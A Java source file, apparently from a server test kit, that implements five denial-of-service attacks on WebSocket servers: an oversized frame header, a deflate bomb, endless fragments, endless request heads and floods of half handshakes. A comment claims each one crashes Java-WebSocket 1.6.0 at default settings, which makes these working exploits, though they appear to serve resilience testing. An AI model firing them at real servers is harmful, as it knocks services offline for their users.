package coscribe.kit;

import static coscribe.kit.RawClient.frame;
import static coscribe.kit.RawClient.upgradeHead;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.ConnectException;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/// What somebody whom nobody knows does to a WebSocket server, once. Each brings Java-WebSocket 1.6.0 down
/// with its default settings.
public enum Attack {
    /// A frame header that declares 2 GiB.
    HUGE_FRAME {
        @Override
        public void on(int port, List<RawClient> kept) throws IOException {
            var header = ByteBuffer.allocate(14)
                    .put((byte) 0x81)
                    .put((byte) 0xFF)
                    .putLong(Integer.MAX_VALUE - 8)
                    .array();
            sayAndReadToTheEnd(port, header);
        }
    },

    /// A compressed message of 100 KB that unpacks to 100 MiB.
    DEFLATE_BOMB {
        @Override
        public void on(int port, List<RawClient> kept) throws IOException {
            try (var client = RawClient.connect(port)) {
                client.socket().setSoTimeout(10_000);
                client.upgrade("Sec-WebSocket-Extensions: permessage-deflate");
                client.say(frame(0xC1, Bomb.PACKED));
                client.readAll();
            } catch (SocketException | SocketTimeoutException over) {
                // closed, or nothing more is said
            }
        }
    },

    /// Fragments without end: 120 MB of them.
    ENDLESS_FRAGMENTS {
        @Override
        public void on(int port, List<RawClient> kept) throws IOException {
            var piece = frame(0x00, new byte[60_000]);
            try (var client = RawClient.open(port)) {
                client.say(frame(0x01, new byte[] {'a'}));
                for (int i = 0; i < 2_000; i++) {
                    client.say(piece);
                }
            } catch (SocketException cut) {
                // as it should be
            }
        }
    },

    /// Eight request heads without end, each up to 16 MiB; they go on when this returns.
    ENDLESS_HEADS {
        @Override
        public void on(int port, List<RawClient> kept) throws IOException {
            var junk = new byte[64 << 10];
            Arrays.fill(junk, (byte) 'x');
            for (int i = 0; i < 8; i++) {
                var client = RawClient.connect(port);
                kept.add(client);
                client.say("GET /v1 HTTP/1.1\r\nX: ");
                var _ = Thread.ofVirtual().start(() -> sayUntilTheEnd(client, junk, 256));
            }
        }
    },

    /// Three hundred half handshakes, and then silence.
    HALF_HANDSHAKES {
        @Override
        public void on(int port, List<RawClient> kept) throws IOException {
            var half = upgradeHead().substring(0, 40);
            try {
                for (int i = 0; i < 300; i++) {
                    var client = RawClient.connect(port);
                    kept.add(client);
                    sayIfHeard(client, half);
                }
            } catch (ConnectException down) {
                // nobody listens any more
            }
        }
    };

    /// Returns when it is done, or has begun where it goes on by itself.
    ///
    /// @param kept  gets the connections that have to stay; whoever calls closes them
    public abstract void on(int port, List<RawClient> kept) throws IOException;

    /// Some 100 KB that unpack to 100 MiB.
    public static byte[] bomb() {
        return Bomb.PACKED.clone();
    }

    private static final class Bomb {
        static final byte[] PACKED = packed();

        private static byte[] packed() {
            var packed = new ByteArrayOutputStream();
            try (var deflating = new DeflaterOutputStream(packed, new Deflater(9, true), 8192, true)) {
                var zeros = "0".repeat(1 << 20).getBytes(UTF_8);
                for (int mebibyte = 0; mebibyte < 100; mebibyte++) {
                    deflating.write(zeros);
                }
                deflating.flush();
                var bytes = packed.toByteArray();
                return Arrays.copyOf(bytes, bytes.length - 4); // RFC 7692 section 7.2.1
            } catch (IOException e) {
                throw new IllegalStateException("in memory", e);
            }
        }
    }

    /// Whoever was thrown out already makes room for the next.
    private static void sayIfHeard(RawClient client, String text) throws IOException {
        try {
            client.say(text);
        } catch (SocketException reset) {
            // sent away, or the server is just going down
        }
    }

    /// Says something and waits until the other side has closed, or has said all it will.
    public static void sayAndReadToTheEnd(int port, byte[] bytes) throws IOException {
        try (var client = RawClient.open(port)) {
            client.socket().setSoTimeout(5_000);
            client.say(bytes);
            client.readAll();
        } catch (SocketException | SocketTimeoutException over) {
            // closed, or nothing more is said
        }
    }

    private static void sayUntilTheEnd(RawClient client, byte[] words, int times) {
        try {
            for (int i = 0; i < times; i++) {
                client.say(words);
            }
        } catch (IOException cutOff) {
            // as it should be
        }
    }
}
